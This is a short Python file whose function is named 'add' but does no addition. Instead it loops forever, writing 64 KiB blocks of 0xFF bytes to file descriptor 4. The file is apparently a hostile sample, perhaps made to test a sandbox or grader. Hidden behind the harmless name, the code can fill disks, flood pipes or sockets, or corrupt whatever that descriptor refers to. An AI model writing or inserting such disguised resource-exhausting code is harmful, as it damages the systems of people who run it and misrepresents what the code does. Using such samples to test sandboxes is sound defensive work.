import os


def add(one, other):
    while True:
        os.write(4, b"\xff" * 65536)
